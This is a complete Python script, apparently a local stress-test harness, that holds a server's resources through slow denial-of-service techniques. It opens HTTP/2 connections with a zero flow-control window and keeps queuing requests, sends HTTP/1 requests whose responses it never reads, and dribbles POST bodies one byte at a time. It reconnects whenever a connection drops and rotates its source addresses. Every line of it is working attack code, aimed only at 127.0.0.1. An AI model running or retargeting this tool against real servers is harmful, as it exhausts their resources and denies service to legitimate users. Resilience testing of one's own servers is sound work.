"""Holds what a server gives a client, for as long as it is left alone: python3 door-attack.py KIND PORT COUNT ADDRESSES PATH...

streams  HTTP/2 with a window of 0: 250 requests a connection, and more whenever some are given up
readers  HTTP/1 that asks and reads nothing
bodies   POSTs whose body comes byte by byte
Each connection that is closed is opened again. Says a line once each was tried.
"""
import select, socket, ssl, struct, sys, time

kind, port, count, addresses, paths = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5:]
context = ssl._create_unverified_context()
context.set_alpn_protocols(["h2"] if kind == "streams" else ["http/1.1"])


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(index, value):
    return bytes([index, len(value)]) + value


def requests(first, number):
    host = b"localhost:%d" % port
    for stream in range(first, first + 2 * number, 2):
        path = paths[stream // 2 % len(paths)].encode()
        # GET, https, :path, :authority, accept-encoding
        yield frame(1, 5, stream, b"\x82\x87" + text(4, path) + text(1, host) + b"\x0f\x01" + bytes([4]) + b"zstd")


class Held:
    def __init__(self, index):
        self.address = f"127.0.1.{index % addresses + 1}"
        self.index = index
        self.sock = None
        self.again = 0.0

    def open(self):
        try:
            raw = socket.socket()
            if kind == "readers":
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            raw.settimeout(2)
            raw.bind((self.address, 0))
            raw.connect(("127.0.0.1", port))
            sock = context.wrap_socket(raw, server_hostname="localhost")
            self.stream = 1
            path = paths[self.index % len(paths)]
            if kind == "streams":
                sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0)))
                self.sock = sock
                self.ask(250)
            elif kind == "readers":
                sock.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: zstd, gzip\r\n\r\n".encode())
            else:
                sock.sendall(
                    f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    f"Content-Length: 8000000\r\n\r\n{{".encode()
                )
            sock.setblocking(False)
            self.sock = sock
        except OSError:
            self.close()

    def ask(self, number):
        self.sock.sendall(b"".join(requests(self.stream, number)))
        self.stream += 2 * number

    def close(self):
        self.sock = None
        self.again = time.monotonic() + 1

    def go_on(self):
        try:
            if kind == "streams":
                for _ in range(20):
                    if not self.sock.recv(65536):
                        return self.close()
                self.ask(4)
            elif kind == "bodies":
                self.sock.send(b" ")
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.close()


all_held = [Held(index) for index in range(count)]
for held in all_held:
    held.open()
print("begun", flush=True)
while True:
    began = time.monotonic()
    poll = select.poll()
    by_number = {}
    for held in all_held:
        if held.sock is None and held.again < time.monotonic():
            held.open()
        if held.sock is not None:
            by_number[held.sock.fileno()] = held
            poll.register(held.sock.fileno(), select.POLLRDHUP)
    for number, _ in poll.poll(0):
        by_number[number].close()
    for held in all_held:
        if held.sock is not None:
            held.go_on()
    time.sleep(max(0, 1 - (time.monotonic() - began)))
